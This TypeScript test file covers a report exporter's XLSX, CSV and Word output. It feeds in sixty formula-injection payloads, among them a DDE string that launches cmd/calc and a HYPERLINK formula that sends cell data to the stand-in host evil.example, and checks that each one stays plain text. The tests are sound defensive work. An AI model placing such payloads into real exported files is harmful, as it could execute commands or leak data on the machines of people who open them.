import { strFromU8, unzipSync } from 'fflate'
import { SaxesParser } from 'saxes'
import { describe, expect, it } from 'vitest'
import type { Paper, Sheet } from '#core/report'
import { writeCsv } from '../../../src/formats/write/csv.ts'
import { writeDocx } from '../../../src/formats/write/docx.ts'
import { looksLikeFormula } from '../../../src/formats/write/printable.ts'
import { writeXlsx } from '../../../src/formats/write/xlsx.ts'
import { day } from '../../support/day.ts'

const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\u200b=', '\ufeff=', "'=", '"=', '＝', '＋', '－', '＠', '\u2212', '|', '%'] as const
const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1;"нажмите")'] as const
/** Sixty beginnings and bodies that a program might take for a formula. */
const payloads = starts.flatMap((start) => bodies.map((body) => `${start}${body}`))

const sheetOf = (rows: Sheet['rows'], changes: Partial<Sheet> = {}): Sheet => ({
  name: 'Сводка', lines: ['Сводка', 'по состоянию'], columns: [{ title: 'Пункт', width: 20 }, { title: 'Срок', width: 12 }], rows, total: null, ...changes,
})
const paperOf = (cells: readonly string[]): Paper => ({
  title: 'Сводка', isLandscape: true,
  pages: [{
    letterhead: ['Управление образования'], addressee: [], title: 'Сводка', lines: ['по состоянию на 22 ноября'], opening: [], closing: ['Данные'], hasQrPlace: true, signature: { post: 'Начальник', name: 'И.О. Фамилия' },
    tables: [{ caption: null, columns: [{ title: '№ п/п', share: 50, align: 'center' }, { title: 'Мероприятие', share: 50, align: 'left' }], rows: cells.map((cell) => ({ kind: 'plain', cells: [['1'], [cell]] })) }],
  }],
})

/** The parts of a file by name; every one of them XML without a fault, every relationship to a part that is there. */
function readParts(file: Uint8Array): Map<string, string> {
  const parts = new Map(Object.entries(unzipSync(file)).map(([name, bytes]) => [name, strFromU8(bytes)]))
  for (const [name, xml] of parts) {
    const parser = new SaxesParser()
    parser.on('error', (error) => { throw new Error(`${name}: ${error.message}`) })
    parser.write(xml).close()
    if (!name.endsWith('.rels')) continue
    const base = name.replace(/_rels\/[^/]*$/, '')
    for (const [, target = ''] of xml.replace(/<Relationship\b[^>]*TargetMode="External"[^>]*>/g, '').matchAll(/Target="([^"]+)"/g)) {
      expect([...parts.keys()], `${name} names ${target}`).toContain(target.startsWith('/') ? target.slice(1) : new URL(target, `file:///${base}`).pathname.slice(1))
    }
  }
  for (const [, part = ''] of (parts.get('[Content_Types].xml') ?? '').matchAll(/PartName="\/([^"]+)"/g)) expect([...parts.keys()]).toContain(part)
  return parts
}

describe('a text that looks like a formula', () => {
  it('is known by its beginning, in sixty disguises, and no plain word is', () => {
    expect(payloads).toHaveLength(60)
    expect(payloads.filter((text) => !looksLikeFormula(text))).toEqual([])
    expect(['Пункт 4.2', '1-я школа', '«=»', '№ 3', 'да', '2 = 2', ''].filter(looksLikeFormula)).toEqual([])
  })

  it('stays a text cell in Excel, formatted as text, and no cell holds a formula', async () => {
    const parts = readParts(await writeXlsx({ sheets: [sheetOf(payloads.map((text) => [text, null]))] }))
    const sheet = parts.get('xl/worksheets/sheet1.xml') ?? ''
    expect(sheet).not.toMatch(/<f[ >]/)
    const cells = [...sheet.matchAll(/<c r="A(\d+)" s="(\d+)" t="(\w+)"/g)].filter(([, row]) => Number(row) > 3)
    expect(cells.map(([, , , type]) => type)).toEqual(payloads.map(() => 's'))
    const styles = parts.get('xl/styles.xml') ?? ''
    const format = /<numFmt numFmtId="(\d+)" formatCode="@"\/>/.exec(styles)?.[1] ?? 'none'
    const looks = [...(/<cellXfs[^>]*>(.*)<\/cellXfs>/s.exec(styles)?.[1] ?? '').matchAll(/<xf\b[^>]*>/g)].map(([look]) => look)
    expect(cells.filter(([, , style]) => looks[Number(style)]?.includes(`numFmtId="${format}"`) !== true)).toEqual([])
    expect([...parts.keys()].filter((name) => /externalLink|calcChain|connections/.test(name))).toEqual([])
  })

  it('gets an apostrophe in CSV, while our own negative numbers stay numbers', () => {
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(writeCsv(sheetOf(payloads.map((one) => [one, -5]))))
    const fields = text.split('\r\n').slice(1, -1).join('\r\n')
    expect(text.startsWith('\ufeffПункт;Срок\r\n')).toBe(true)
    expect([...fields.matchAll(/(?:^|\r\n)("?)'/g)]).toHaveLength(60)
    expect([...fields.matchAll(/;-5(?=\r\n|$)/g)]).toHaveLength(60)
  })

  it('is a plain run of text in Word: no field, no link, nothing from outside', async () => {
    const parts = readParts(await writeDocx(paperOf(payloads)))
    const body = parts.get('word/document.xml') ?? ''
    expect(body).not.toMatch(/w:fldSimple|w:instrText|w:hyperlink|w:object|w:altChunk/)
    expect([...parts].filter(([name, xml]) => name.endsWith('.rels') && xml.includes('External'))).toEqual([])
    expect([...body.matchAll(/<w:t[ >]/g)].length).toBeGreaterThan(60)
  })
})

describe('a workbook', () => {
  it('has a frozen head, a filter above the sums, real dates, and prints A4 across with its head on every sheet', async () => {
    const parts = readParts(await writeXlsx({ sheets: [sheetOf([['а', { date: day('2026-11-22') }], ['б', null]], { total: ['Итого', 2] }), sheetOf([], { name: 'Как «считали» & <почему>' })] }))
    const sheet = parts.get('xl/worksheets/sheet1.xml') ?? ''
    expect(sheet).toContain('<pane ySplit="3" topLeftCell="A4" activePane="bottomLeft" state="frozen"/>')
    expect(sheet).toContain('<autoFilter ref="A3:B5"/>')
    expect(sheet).toContain('<pageSetup paperSize="9" orientation="landscape" fitToWidth="1" fitToHeight="0"/>')
    expect(sheet).toMatch(/<c r="B4" s="\d+"><v>46348<\/v><\/c>/)
    expect(parts.get('xl/styles.xml')).toContain('formatCode="dd.mm.yyyy"')
    const book = parts.get('xl/workbook.xml') ?? ''
    expect(book).toContain("<definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">'Сводка'!$A$1:$B$6</definedName>")
    expect(book).toContain("<definedName name=\"_xlnm.Print_Titles\" localSheetId=\"0\">'Сводка'!$3:$3</definedName>")
    expect(book.match(/<definedNames/g)).toHaveLength(1)
  })
})

describe('a Word file', () => {
  it('is Times New Roman 14 with tables of 12, A4 across, margins of an office, heads repeated and rows unbroken', async () => {
    const parts = readParts(await writeDocx(paperOf(['Пересмотреть нагрузку', 'Провести опрос'])))
    const body = parts.get('word/document.xml') ?? ''
    expect(parts.get('word/styles.xml')).toMatch(/w:ascii="Times New Roman"[\s\S]*w:sz w:val="28"/)
    expect(body).toMatch(/<w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/)
    expect(body).toMatch(/w:top="1134" w:right="567" w:bottom="1134" w:left="1134"/)
    expect([...body.matchAll(/<w:tblHeader\/>/g)]).toHaveLength(1)
    expect([...body.matchAll(/<w:cantSplit\/>/g)]).toHaveLength(4)
    expect(body).toContain('w:val="24"')
    const footers = [...parts].filter(([name]) => name.startsWith('word/footer')).map(([, xml]) => xml)
    expect(footers.filter((xml) => xml.includes('>QR<'))).toHaveLength(1)
  })

  it('holds no character that XML cannot', async () => {
    readParts(await writeDocx(paperOf(['а\u0000б\u0007\ud800в\uffff', '<тег> & "кавычки"'])))
    readParts(await writeXlsx({ sheets: [sheetOf([['а\u0000б\u0007\ud800в\uffff', '<тег> & "кавычки"']])] }))
  })
})
